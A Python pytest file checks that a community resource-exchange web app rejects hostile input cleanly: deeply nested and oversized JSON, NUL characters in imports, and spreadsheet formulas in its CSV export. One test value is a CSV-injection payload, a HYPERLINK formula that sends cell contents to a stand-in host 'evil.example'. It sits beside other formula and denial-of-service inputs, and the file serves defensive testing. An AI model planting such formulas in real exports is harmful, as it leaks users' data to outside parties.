"""Bad input gets a clear error, never a 500: deep or huge JSON, NUL characters in imported
files, and spreadsheet formulas in the brokers' CSV export."""
from __future__ import annotations

import csv
import io
import json

import pytest
from sqlalchemy import func, select

from models import Listing, Organization
from tests.conftest import TEST_PASSWORD, login_id

DEEP = b"[" * 1000 + b"]" * 1000            # RecursionError in json.loads before the fix
DEEP_OBJECT = b'{"a":' * 1000 + b"1" + b"}" * 1000
NINE_MB = b'{"email": "' + b"a" * (9 * 1024 * 1024) + b'"}'

CSV_HEADER = ("organization_ref,organization_name,organization_sector,organization_municipality,"
              "ref,kind,category,title,quantity,unit\n")


def counts(session) -> tuple[int, int]:
    session.rollback()
    return (session.scalar(select(func.count()).select_from(Organization)),
            session.scalar(select(func.count()).select_from(Listing)))


@pytest.fixture
def member(make_user, make_org):
    user = make_user("anna@example.org")
    return user, make_org(user, name="Biblioteka", sector="public", municipality="Tczew")


@pytest.fixture
def token(client, member):
    response = client.post("/api/v1/tokens", json={"email": "anna@example.org",
                                                   "password": TEST_PASSWORD, "name": "skrypt"})
    return response.json["token"]


def login_admin(client, make_user, language: str = "en"):
    admin = make_user(is_admin=True)
    with client.session_transaction() as s:
        s["_user_id"] = login_id(admin)
        s["locale"] = language


# ------------------------------------------------------------------------- deep JSON

@pytest.mark.parametrize("body", [DEEP, DEEP_OBJECT], ids=["arrays", "objects"])
@pytest.mark.parametrize("method, path", [
    ("GET", "/healthz"), ("POST", "/api/v1/tokens"), ("POST", "/login"),
    ("POST", "/organizations/new"), ("GET", "/listings/")])
def test_json_nested_a_thousand_levels_deep_is_a_400_on_any_route(client, method, path, body):
    response = client.open(path, method=method, data=body, content_type="application/json")
    assert response.status_code == 400
    assert "The JSON is nested too deeply: at most 64 levels." in response.get_data(as_text=True)


def test_deep_json_to_the_api_is_refused_in_the_readers_language(client, member, token):
    response = client.post("/api/v1/listings", data=DEEP, content_type="application/json",
                           headers={"Authorization": f"Bearer {token}",
                                    "Accept-Language": "pl"})
    assert response.status_code == 400
    assert response.json == {"error": "json_too_deep", "message":
                             "JSON jest zagnieżdżony zbyt głęboko (dopuszczalna głębokość: 64)."}


def test_brackets_inside_strings_do_not_count_as_nesting(client, member, token, session):
    title = "Sala " + "[" * 200 + "{" * 200
    response = client.post("/api/v1/listings", headers={"Authorization": f"Bearer {token}"},
                           json={"organization_id": member[1].id, "kind": "offer",
                                 "category": "rooms", "title": title[:120], "quantity": 1,
                                 "unit": "hours", "description": '\\"' + "[" * 300})
    assert response.status_code == 201, response.json


def test_a_nine_megabyte_json_body_is_refused_with_413_before_it_is_read(client, member, token):
    for headers in ({}, {"Authorization": f"Bearer {token}"}):
        response = client.post("/api/v1/tokens", data=NINE_MB, content_type="application/json",
                               headers=headers)
        assert response.status_code == 413
        assert response.json == {"error": "too_large",
                                 "message": "What you sent is too large: at most 1 MB here."}
    response = client.post("/api/v1/listings", data=NINE_MB, content_type="application/json",
                           headers={"Authorization": f"Bearer {token}", "Accept-Language": "pl"})
    assert response.status_code == 413
    assert response.json["message"] == "Przesłane dane są za duże: tutaj najwyżej 1 MB."
    assert client.get("/healthz", data=NINE_MB, content_type="application/json"
                      ).status_code == 413


def test_a_form_over_a_megabyte_is_refused_but_an_import_file_may_be_larger(
        client, session, make_user):
    two_mb = io.BytesIO(b"x" * (2 * 1024 * 1024))
    big_form = client.post("/login", data={"email": "a@example.org", "password": "x",
                                           "file": (two_mb, "x.bin")},
                           content_type="multipart/form-data")
    assert big_form.status_code == 413
    assert "at most 1 MB" in big_form.get_data(as_text=True)
    login_admin(client, make_user)
    # Two organizations, and enough empty rows (which the import skips) to pass 1 MB.
    upload = (CSV_HEADER + "org-1,Biblioteka,public,Tczew,,,,,,\n" + ",,,,,,,,,\n" * 150_000
              + "org-2,Klub,ngo,Tczew,,,,,,\n").encode()
    assert 1024 * 1024 < len(upload) < 10 * 1024 * 1024
    response = client.post("/admin/transfer", data={"file": (io.BytesIO(upload), "duzy.csv")},
                           content_type="multipart/form-data")
    assert response.status_code == 200, response.get_data(as_text=True)[-500:]
    assert counts(session) == (2, 0)
    too_big = b"x" * (11 * 1024 * 1024)
    response = client.post("/admin/transfer", data={"file": (io.BytesIO(too_big), "duzy.csv")},
                           content_type="multipart/form-data")
    assert response.status_code == 413
    assert "at most 10 MB" in response.get_data(as_text=True)


def test_a_deeply_nested_json_import_file_is_refused_not_a_crash(client, session, make_user):
    login_admin(client, make_user)
    document = b'{"organizations": ' + DEEP + b"}"
    response = client.post("/admin/transfer", data={"file": (io.BytesIO(document), "plik.json")},
                           content_type="multipart/form-data")
    assert response.status_code == 422
    assert "nested too deeply" in response.get_data(as_text=True)
    assert counts(session) == (0, 0)


# ------------------------------------------------------------------------- NUL in imports

NUL_CSV = (CSV_HEADER
           + "org-1,Biblioteka,public,Tczew,l-1,offer,rooms,Sala,4,hours\n"
           + "org-2,Klub\x00,ngo,Tczew,l-2,offer,rooms,Aula,4,hours\n"
           + "org-1,Biblioteka,public,Tczew,l-3,offer,rooms,Sala 2,4,hours\n").encode()
NUL_JSON = ('{"organizations": [\n'
            '  {"ref": "org-1", "name": "Biblioteka", "sector": "public", "municipality": "Tczew"},\n'
            '  {"ref": "org-2", "name": "Klub\\u0000", "sector": "ngo", "municipality": "Tczew"}\n'
            ']}\n').encode()


@pytest.mark.parametrize("name, content, line", [("plik.csv", NUL_CSV, 3),
                                                 ("plik.json", NUL_JSON, 3)])
def test_a_nul_character_in_an_uploaded_file_is_refused_with_its_line(
        client, session, make_user, name, content, line):
    for language, message in (("en", "This line contains the NUL character (\\0)"),
                              ("pl", "Ten wiersz zawiera znak NUL (\\0)")):
        login_admin(client, make_user, language)
        response = client.post("/admin/transfer", data={"file": (io.BytesIO(content), name)},
                               content_type="multipart/form-data")
        page = response.get_data(as_text=True)
        assert response.status_code == 422
        assert message in page and f'">{line}</td>' in page
    assert counts(session) == (0, 0)


@pytest.mark.parametrize("name, content, line", [("plik.csv", NUL_CSV, 3),
                                                 ("plik.json", NUL_JSON, 3),
                                                 ("raw.json", NUL_JSON.replace(b"\\u0000", b"\x00"),
                                                  3)])
def test_the_import_command_refuses_a_nul_character_with_its_line(
        runner, session, tmp_path, name, content, line):
    path = tmp_path / name
    path.write_bytes(content)
    result = runner.invoke(args=["import-data", str(path)])
    assert result.exit_code == 1
    assert f"line {line}" in result.output and "NUL character" in result.output
    assert counts(session) == (0, 0)


# ------------------------------------------------------------------------- formulas in CSV

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Potrzebna pracownia komputerowa")'


def test_the_matching_csv_export_writes_formulas_as_text(runner, session, make_user, make_org,
                                                          now):
    from exchange.core.listings import create_listing

    library_owner, school_owner = make_user(), make_user()
    library = make_org(library_owner, sector="public", municipality="Tczew")
    school = make_org(school_owner, sector="public", municipality="Tczew")
    create_listing(session, library_owner, library.id, {
        "kind": "need", "category": "computer_labs", "title": HYPERLINK, "quantity": 6,
        "unit": "hours"}, now)
    create_listing(session, school_owner, school.id, {
        "kind": "offer", "category": "computer_labs", "title": "@SUM(1) Pracownia komputerowa",
        "quantity": 20, "unit": "hours"}, now)
    # Names the web forms would have trimmed, written straight to the database.
    library.name, school.name = "\t=1+2", "\r-3+4"
    session.commit()

    result = runner.invoke(args=["matching", "export", "--format", "csv"])
    assert result.exit_code == 0, result.output
    [row] = list(csv.DictReader(io.StringIO(result.output, newline="")))
    assert row["need_title"] == "'" + HYPERLINK
    assert row["offer_title"] == "'@SUM(1) Pracownia komputerowa"
    assert (row["receiver"], row["giver"]) == ("'\t=1+2", "'\r-3+4")
    assert not [c for c in row.values() if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # The JSON export is data, not a spreadsheet: titles stay as they were written.
    [record] = json.loads(runner.invoke(args=["matching", "export", "--format", "json"]).output)
    assert record["need_title"] == HYPERLINK
